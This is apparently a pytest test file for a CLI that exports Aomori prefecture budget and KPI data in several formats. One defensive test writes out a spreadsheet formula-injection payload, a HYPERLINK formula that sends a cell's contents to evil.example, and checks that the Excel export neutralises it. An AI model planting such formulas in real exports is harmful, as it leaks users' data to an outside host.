"""Beyond the PDF: CSV/TSV/Markdown/JSON Lines, Excel-safe CSV, fields, rankings, about."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from aomori_cli.formats import to_csv
from aomori_cli.models import Report


def csv_rows(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


def test_list_csv_parses_back(run, report: Report) -> None:
    r = run("list", "--format", "csv")
    assert r.exit_code == 0
    rows = csv_rows(r.stdout)
    assert len(rows) == 23
    assert [int(row["budget_thousand_yen"]) for row in rows] == [
        p.budget_thousand_yen for p in report.programmes
    ]
    assert rows[16]["kpis"].startswith(
        "専門家派遣企業数: 6者 → 3者; 専門家派遣回数: 延べ 15回 → 延べ 7回"
    )
    assert rows[3]["new"] == "true"


def test_tsv_parses_back(run) -> None:
    rows = csv_rows(run("totals", "--format", "tsv").stdout, "\t")
    assert sum(int(r["budget_thousand_yen"]) for r in rows) == 2_543_429
    assert list(rows[0]) == [
        "key", "count", "budget_thousand_yen", "share", "key_en", "division", "group",
    ]  # fmt: skip
    assert rows[0]["division"] == rows[0]["key"] and rows[0]["group"] == ""


def test_compare_csv_is_one_row_per_kpi(run) -> None:
    rows = csv_rows(run("compare", "10", "12", "--format", "csv").stdout)
    assert len(rows) == 5
    pct = rows[4].pop("change_pct")
    assert rows[4] == {
        "no": "12",
        "programme": "あおもり事業者支援ポータルサイト運用保守事業",
        "programme_en": "Aomori business support portal site operation",
        "name": "年間ページビュー数",
        "name_en": "Page views in the year",
        "unit": "件",
        "fy2023": "20748",
        "fy2024": "15163",
        "change": "-5585",
        "fy2023_raw": "20,748件",
        "fy2023_unit": "件",
        "fy2023_qualifier": "",
        "fy2024_raw": "15,163件",
        "fy2024_unit": "件",
        "fy2024_qualifier": "",
    }
    # Machines get the number in full (signed, unrounded), not the ▲ people read.
    assert float(pct) == pytest.approx(-5585 / 20748 * 100)


def test_excel_csv_has_bom_and_crlf(run, tmp_path: Path) -> None:
    out = tmp_path / "list.csv"
    r = run("list", "--excel", "--output", str(out))
    assert r.exit_code == 0 and r.stdout == ""
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.split(b"\n", 1)[0].endswith(b"\r") and raw.endswith(b"\r\n")
    rows = csv_rows(raw.decode("utf-8-sig"))
    assert len(rows) == 23
    # A line break inside a cell (No. 23's two paragraphs) stays inside its quoted cell.
    assert "\n" in rows[22]["results"]
    assert rows[9]["name"] == "経営改善普及事業費補助"


def test_spreadsheet_formulas_are_defused_for_excel() -> None:
    row = [{"a": "=HYPERLINK(1)", "b": -5, "c": "-", "d": "+x"}]
    text = to_csv(row, ["a", "b", "c", "d"], excel=True)
    assert text.splitlines()[1] == "'=HYPERLINK(1),-5,-,'+x"
    # Plain CSV is for machines: the data exactly as it is.
    assert to_csv(row, ["a", "b", "c", "d"]).splitlines()[1] == "=HYPERLINK(1),-5,-,+x"
    wide = [{"a": "＝HYPERLINK(1)", "b": "＋x", "c": "－x", "d": "＠SUM(A1)"}]
    assert to_csv(wide, ["a", "b", "c", "d"], excel=True).splitlines()[1] == (
        "'＝HYPERLINK(1),'＋x,'－x,'＠SUM(A1)"
    )


def test_a_small_number_is_written_in_full_and_stays_a_number_for_excel() -> None:
    # An attack review: 2,000,000 -> 1,999,999 has change_pct -5e-05, which --excel took for a
    # formula and wrote as the text '-5e-05.
    row = [{"a": -5e-05, "b": -1.000000000000001e-13, "c": 1.5e-7, "d": 4.334011875494561}]
    expected = "-0.00005,-0.0000000000001000000000000001,0.00000015,4.334011875494561"
    assert to_csv(row, ["a", "b", "c", "d"], excel=True).splitlines()[1] == expected
    assert to_csv(row, ["a", "b", "c", "d"]).splitlines()[1] == expected


@pytest.mark.parametrize(
    "before", ["\0", "\0\0", "\x7f", "\x85", "\u200b", "\ufeff", " ", "\u3000"]
)
def test_a_formula_behind_controls_or_spaces_is_defused_for_excel(before: str) -> None:
    """LibreOffice drops a NUL and ran "\0=HYPERLINK(…)" as a formula (from an attack review):
    a cell starts at its first character that is not a space, a control or a format mark."""
    cell = before + '=HYPERLINK("https://evil.example/?d="&C3,"x")'
    (record,) = list(csv.reader(io.StringIO(to_csv([{"a": cell}], ["a"], excel=True)[1:])))[1:]
    assert record == ["'" + cell]


def test_markdown_is_a_well_formed_table(run) -> None:
    r = run(
        "list",
        "--division",
        "経済産業",
        "--format",
        "md",
        "--fields",
        "no,name,budget_thousand_yen",
    )
    lines = r.stdout.strip().splitlines()
    assert lines[0] == "| no | name | budget\\_thousand\\_yen |"
    assert lines[1] == "| ---: | --- | ---: |"  # numbers aligned right
    assert lines[2:] == [
        "| 8 | 青森県中小企業団体中央会補助 | 146,045 |",
        "| 9 | 商工会連合会指定事業費補助 | 202,478 |",
        "| 10 | 経営改善普及事業費補助 | 1,338,105 |",
    ]
    assert all(line.count("|") == 4 for line in lines)


def test_markdown_escapes_pipes_and_newlines(run) -> None:
    r = run("show", "23", "--format", "md", "--fields", "no,results")
    row = r.stdout.strip().splitlines()[2]
    assert "<br>" in row and row.count("|") == 3


def test_json_lines_one_object_per_line(run) -> None:
    lines = run("list", "--format", "jsonl").stdout.splitlines()
    assert len(lines) == 23
    assert [json.loads(line)["no"] for line in lines] == list(range(1, 24))


def test_fields_selection(run) -> None:
    data = json.loads(run("list", "--json", "--fields", "no,budget_thousand_yen,share").stdout)
    assert data[9] == {
        "no": 10,
        "budget_thousand_yen": 1_338_105,
        "share": pytest.approx(0.5261, abs=1e-4),
    }
    r = run("list", "--fields", "no,name")
    assert r.exit_code == 0 and "経営改善普及事業費補助" in r.stdout and "1,338,105" not in r.stdout


def test_fields_command_lists_every_field(run) -> None:
    data = json.loads(run("fields", "--json").stdout)
    names = [f["field"] for f in data if f["command"] == "list, show"]
    assert {"no", "name", "budget_thousand_yen", "kpis", "share"} <= set(names)
    assert all(f["description"] for f in data)
    assert {f["field"] for f in data if f["command"] == "search"} >= {"no", "score", "snippet"}
    # --json offers every key --fields does, and the other way round.
    listed = json.loads(run("list", "--json").stdout)[0]
    assert list(listed) == names


def test_compare_all_ranks_by_percent_change(run, report: Report) -> None:
    data = json.loads(run("compare", "--all", "--json").stdout)
    assert len(data) == sum(len(p.kpis) for p in report.programmes) == 64
    pct = [d["change_pct"] for d in data if d["change_pct"] is not None]
    assert pct == sorted(pct)
    assert data[0]["no"] == 19 and data[0]["change_pct"] == -100.0


def test_compare_all_down_and_up(run) -> None:
    down = json.loads(run("compare", "--all", "--down", "--json").stdout)
    assert down and all(d["change"] < 0 for d in down)
    portal = next(d for d in down if d["no"] == 12)
    assert (portal["fy2023"], portal["fy2024"]) == (20748, 15163)
    up = json.loads(run("compare", "--all", "--up", "--json").stdout)
    assert up and all(d["change"] > 0 for d in up)
    assert [d["change_pct"] for d in up] == sorted((d["change_pct"] for d in up), reverse=True)
    by_change = json.loads(run("compare", "--all", "--down", "--sort", "change", "--json").stdout)
    assert by_change[0]["no"] == 12 and by_change[0]["change"] == -5585


def test_totals_units(run) -> None:
    # 億円 to two decimals in Japanese; the same rounding as English writes it, in millions
    # ("¥25.43 × 100M" read oddly to an English reviewer).
    assert "25.43" in run("totals", "--unit", "oku", env={"AOMORI_LANG": "ja"}).stdout
    assert "2,543" in run("totals", "--unit", "oku").stdout
    shown = run("show", "10", "--unit", "oku").stdout.replace("\xa0", " ")
    assert "Budget   ¥1,338 million (52.6%)" in shown
    assert "2,543,429,000" in run("totals", "--unit", "yen").stdout
    data = json.loads(run("totals", "--unit", "oku", "--json").stdout)
    assert data["total_thousand_yen"] == 2_543_429  # JSON keeps thousand yen
    assert data["matches_report_subtotal"] is True


@pytest.mark.lang("ja")
def test_about(run) -> None:
    r = run("about")
    for text in (
        "基本方針②",
        "中小企業の経営基盤の強化を図ること",
        "51〜62",
        "経営支援の強化",
        "ミナミ",
        "あおり",
    ):
        assert text in r.stdout, text
    data = json.loads(run("about", "--json").stdout)
    assert data["section"]["subtotal_thousand_yen"] == 2_543_429
    assert data["case_study"]["subsidy"] == "新事業展開等促進補助金"
    assert len(data["programme_corrections"]) >= 6
    assert run("about", "--format", "csv").exit_code == 2


def test_show_cites_its_source(run) -> None:
    out = run("show", "17").stdout
    assert "p.59" in out and "一連のあおり商品の" in out and "一連のあおもり商品の" in out


def test_output_is_atomic(run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "out.json"
    target.write_text("previous", "utf-8")

    def fail(*args: object, **kwargs: object) -> str:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr("aomori_cli.formats.to_json", fail)
    r = run("list", "--json", "--output", str(target))
    assert r.exit_code == 1
    assert target.read_text("utf-8") == "previous"
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]  # no temporary left behind


def test_output_to_a_missing_folder(run, tmp_path: Path) -> None:
    r = run("list", "--json", "--output", str(tmp_path / "no" / "such.json"))
    assert r.exit_code == 1 and "cannot write" in r.stderr and r.stdout == ""


def test_show_fields_gives_one_object(run) -> None:
    data = json.loads(run("show", "10", "--json", "--fields", "no,name").stdout)
    assert data == {"no": 10, "name": "経営改善普及事業費補助"}


def test_output_to_a_folder_name_and_to_stdout(run, tmp_path: Path) -> None:
    r = run("list", "--json", "--output", f"{tmp_path}/newdir/")
    assert r.exit_code == 1 and r.stdout == "" and "is a directory" in r.stderr
    assert list(tmp_path.iterdir()) == []  # no file called "newdir"
    r = run("totals", "--json", "-o", "-")
    assert r.exit_code == 0 and json.loads(r.stdout)["total_thousand_yen"] == 2_543_429


def test_json_layout(run) -> None:
    """An object is indented; a top-level array has one element per line, so grep, diff and
    head see one programme (or hit, or KPI) per line."""
    listed = run("list", "--json").stdout.splitlines()
    assert listed[0] == "[" and listed[-1] == "]" and len(listed) == 25
    assert json.loads(listed[10].rstrip(","))["no"] == 10
    shown = run("show", "10", "--json").stdout.splitlines()
    assert shown[0] == "{" and shown[1] == '  "no": 10,'
    assert run("search", "存在しない言葉", "--json").stdout == "[]\n"


def test_excel_row_ends_on_a_terminal_are_line_ends() -> None:
    """--excel's CRLF shown on a terminal: line ends, not ␍ on every line; a CR inside a
    cell is still shown as a picture."""
    from aomori_cli.cli.output import _for_terminal

    shown = _for_terminal('no,name\r\n1,"a\rb"\r\n')
    assert shown == 'no,name\n1,"a␍b"\n'


@pytest.mark.parametrize("excel", [False, True])
def test_a_carriage_return_in_a_field_is_quoted(excel: bool) -> None:
    """Python's csv quotes only what its line end holds: with LF, a field holding a lone CR was
    written bare, and a reader split the record in two."""
    rows = [{"no": 2, "results": "a\rb"}, {"no": 3, "results": "c\r\nd"}, {"no": 4, "results": "e"}]
    text = to_csv(rows, ["no", "results"], excel=excel).removeprefix("\ufeff")
    assert text.endswith("4,e\r\n" if excel else "4,e\n")
    assert '"a\rb"' in text and '"c\r\nd"' in text
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [["no", "results"], ["2", "a\rb"], ["3", "c\r\nd"], ["4", "e"]]


@pytest.mark.parametrize("fmt", ["csv", "tsv", "json", "md"])
def test_a_field_given_twice_is_one_column_in_every_format(run, fmt: str) -> None:
    """CSV had no,no,name where JSON, whose objects hold a key once, had no,name."""
    twice = run("list", "--format", fmt, "--fields", "no,no,name,no", "--limit", "2").stdout
    once = run("list", "--format", fmt, "--fields", "no,name", "--limit", "2").stdout
    assert twice == once


def test_fields_names_the_columns_another_unit_gives(run) -> None:
    """--unit renames CSV's money columns (budget_oku): fields says so, as it lists the rest."""
    assert "(budget_yen, budget_oku)" in " ".join(run("fields").stdout.split())
    header = run("list", "--format", "csv", "--unit", "oku", "--fields", "no,budget_thousand_yen")
    assert header.stdout.splitlines()[0] == "no,budget_oku"


def test_fields_says_compare_rows_are_per_kpi(run) -> None:
    """A review: `compare 2 --json --fields name` gave KPI rows where `compare 2 --json` gives
    programmes; fields listed the keys without saying whose they are."""
    said = "compare: these are the keys of one row per KPI, as CSV has."
    assert said in " ".join(run("fields", "compare").stdout.split())
    assert said in " ".join(run("fields").stdout.split())
    assert "compare:" not in run("fields", "list").stdout
    rows = json.loads(run("compare", "2", "--json", "--fields", "no,name").stdout)
    assert rows[0]["name"] == "地域間幹線系統確保維持計画に係る運送予定者の応募事業者数"


def test_changes_ranked_by_unit_end_with_every_kpi_without_one(run) -> None:
    """--sort change ranks within each unit; the KPIs with no change had a small group of their
    own for each unit, after a blank row each. They end the list together, by programme."""
    ranked = json.loads(run("compare", "--all", "--sort", "change", "--json").stdout)
    without = [k for k in ranked if k["change"] is None]
    assert ranked[-len(without) :] == without
    assert [k["no"] for k in without] == sorted(k["no"] for k in without)
    table = run("compare", "--all", "--sort", "change").stdout
    unranked = table[table.index("  4 Subsidy for DX") :]
    assert "\n\n" not in unranked.split("Change:")[0]


def test_a_full_non_blocking_stdout_is_waited_for_not_spun_on(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A non-blocking stdout whose reader is slow takes nothing for a while: each time, the
    writer waits for it to take more (select), rather than trying again at once."""
    import select
    import sys

    from aomori_cli.cli import output

    taken = bytearray()
    refusals = iter([None, 0, "blocked", None])
    waits = 0

    class Raw:
        def write(self, data: memoryview) -> int | None:
            refusal = next(refusals, False)
            if refusal == "blocked":
                raise BlockingIOError(11, "blocked", 0)
            if refusal is not False:
                return refusal  # type: ignore[return-value]
            taken.extend(data[:3])  # a little at a time
            return min(3, len(data))

        def flush(self) -> None:
            pass

    class Stdout:
        buffer = Raw()
        encoding = "utf-8"

        def flush(self) -> None:
            pass

        def fileno(self) -> int:
            return 1

    def wait(*args: object) -> tuple[list[int], list[int], list[int]]:
        nonlocal waits
        waits += 1
        return [], [1], []

    monkeypatch.setattr(sys, "stdout", Stdout())
    monkeypatch.setattr(select, "select", wait)
    output.write_stdout("事業費 1,338,105千円\n", utf8=True)
    assert taken.decode() == "事業費 1,338,105千円\n"
    assert waits == 4  # once for each refusal


@pytest.mark.parametrize(("unit", "name"), [("yen", "budget_yen"), ("oku", "budget_oku")])
def test_fields_takes_the_column_names_another_unit_gives(run, unit: str, name: str) -> None:
    """fields says --unit yen names the CSV column budget_yen: --fields takes that name too."""
    r = run("list", "--unit", unit, "--format", "csv", "--fields", f"no,{name}", "--limit", "1")
    assert r.exit_code == 0 and r.stdout.splitlines()[0] == f"no,{name}", r.output
    assert run("list", "--fields", "no,budget_yen").exit_code == 2  # in 千円 there is none


@pytest.mark.parametrize("command", [["list", "-o"], ["export", "sqlite"]])
def test_a_path_ending_in_a_dot_folder_is_a_folder(run, tmp_path: Path, command) -> None:
    """x/. and x/.. name folders: Path() made x/. a file called x."""
    for name in ("x/.", "x/..", "."):
        r = run(*command, f"{tmp_path}/{name}" if name != "." else name)
        assert r.exit_code == 1 and r.stdout == "" and "is a directory" in r.stderr, name
    assert list(tmp_path.iterdir()) == []


def test_a_limit_on_changes_ranked_by_unit_takes_the_first_of_each_unit(run) -> None:
    """--sort change ranks within each unit: --limit 5 over all of them showed ▲8回 … 0回 as
    the five largest falls, and not ▲5,585件 (from a review)."""
    r = run("compare", "--all", "--sort", "change", "--limit", "1", "--json")
    ranked = json.loads(r.stdout)
    units = [k["unit"] for k in ranked if k["change"] is not None]
    assert len(units) == len(set(units)) >= 5
    assert {"name": "Page views in the year", "change": -5585} in [
        {"name": k["name_en"], "change": k["change"]} for k in ranked
    ]
    assert "the first 1 of each unit's KPIs shown" in r.stderr
    # A KPI without a change has no rank: a limit does not show it among the first rows.
    assert all(k["change"] is not None for k in ranked)


@pytest.mark.parametrize(
    ("args", "shown", "said"),
    [
        (
            ["--all", "--limit", "100"],
            56,
            "56 of 64; 8 with no change to compare (a year without a figure, or unlike figures) have no rank",
        ),
        (
            ["14", "--limit", "1"],
            0,
            "0 of 3; 3 with no change to compare (a year without a figure, or unlike figures) have no rank",
        ),
    ],
)
def test_a_limit_by_unit_says_what_it_leaves_unranked(run, args, shown: int, said: str) -> None:
    """At most N of each unit, and never a KPI without a change; the note says how many of
    those it left out, where it had hidden them silently, and compare 14 --limit 1 had said
    "no KPI matches" of three KPIs that matched (from two attack reviews)."""
    r = run("compare", *args, "--sort", "change", "--json")
    assert r.exit_code == 0 and len(json.loads(r.stdout)) == shown
    assert said in r.stderr
    table = run("compare", *args, "--sort", "change")
    assert "no KPI matches" not in table.stderr and said in table.stderr


def test_english_names_of_divisions_and_groups_are_exported(run) -> None:
    """An English reader could not get the division names an English table shows into a
    spreadsheet (from a review): list has division_en and group_en, totals key_en, and a
    totals key_en goes back to --group as a key does."""
    rows = csv_rows(run("list", "--format", "csv", "--fields", "no,division_en,group_en").stdout)
    assert rows[0] == {
        "no": "1",
        "division_en": "Citizen Participation Promotion Division",
        "group_en": "Gender Equality Group",
    }
    totals = json.loads(run("totals", "--by", "group", "--json").stdout)["rows"]
    for row in totals:
        chosen = json.loads(run("list", "--group", row["key_en"], "--json").stdout)
        assert len(chosen) == row["count"], row["key_en"]
    by_new = json.loads(run("totals", "--by", "new", "--json").stdout)["rows"]
    assert {r["key"]: r["key_en"] for r in by_new} == {"継続": "continuing", "新規": "new"}
